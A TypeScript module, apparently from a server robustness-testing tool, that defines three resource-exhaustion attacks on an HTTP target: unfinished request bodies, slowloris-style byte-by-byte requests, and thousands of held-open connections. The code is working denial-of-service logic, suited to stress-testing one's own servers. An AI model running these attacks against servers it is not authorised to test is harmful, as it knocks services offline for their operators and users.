import type { Attack, Attacker } from '../attack.js'
import { countEnds, inParallel, openSocket, openSockets, pause, postHead, untilOver } from '../sockets.js'

const ANNOUNCED_BYTES = 5_000_000
const SENT_BYTES = 4_900_000

/** Bodies that are sent nearly whole, and whose end is never sent. */
export const unfinishedBodies: Attack = {
  name: 'unfinished bodies',
  what: '300 connections, each with 4.9 MB of a body that it announced as 5 MB, half of them chunked',
  async run(attacker) {
    const { target, signal, scale } = attacker
    const filler = Buffer.alloc(SENT_BYTES, ' ')
    await inParallel(Math.ceil(300 * scale), signal, async (copy) => {
      const socket = await openSocket(target)
      if (!socket) return pause(signal, 500)
      countEnds(attacker, [socket])
      const chunked = copy % 2 === 1
      socket.write(postHead(target, chunked ? 'chunked' : ANNOUNCED_BYTES))
      if (chunked) socket.write(`${ANNOUNCED_BYTES.toString(16)}\r\n`)
      socket.write(filler)
      while (!signal.aborted && !socket.closed) await pause(signal, 100)
      socket.destroy()
      await pause(signal, 500)
    })
  },
}

/** Heads and bodies that come byte by byte. */
export const slowRequests: Attack = {
  name: 'slow requests',
  what: '1,000 connections that send one byte of a head or a body each second',
  async run(attacker) {
    const { target, signal, scale } = attacker
    const sockets = await openSockets(attacker, Math.ceil(1000 * scale))
    countEnds(attacker, sockets)
    sockets.forEach((socket, i) => {
      socket.write(i % 2 === 0 ? postHead(target, ANNOUNCED_BYTES) : `POST ${target.path} HTTP/1.1\r\nX-Slow: `)
    })
    while (!signal.aborted) {
      for (const socket of sockets) if (socket.writable) socket.write('a')
      await pause(signal, 1000)
    }
    closeAll(sockets)
  },
}

/** More connections than anyone needs. */
export const idleConnections: Attack = {
  name: 'connections',
  what: '12,000 connections, half of them silent, half kept alive by a request now and then',
  async run(attacker: Attacker) {
    const sockets = await openSockets(attacker, Math.ceil(12_000 * attacker.scale))
    attacker.count(`${sockets.filter(({ closed }) => !closed).length} open at once`)
    countEnds(attacker, sockets)
    const request = `${postHead(attacker.target, 2)}{}`
    sockets.forEach((socket, i) => {
      if (i % 2 === 0 && socket.writable) socket.write(request)
    })
    await untilOver(attacker.signal)
    closeAll(sockets)
  },
}

function closeAll(sockets: readonly { destroy(): void }[]): void {
  for (const socket of sockets) socket.destroy()
}
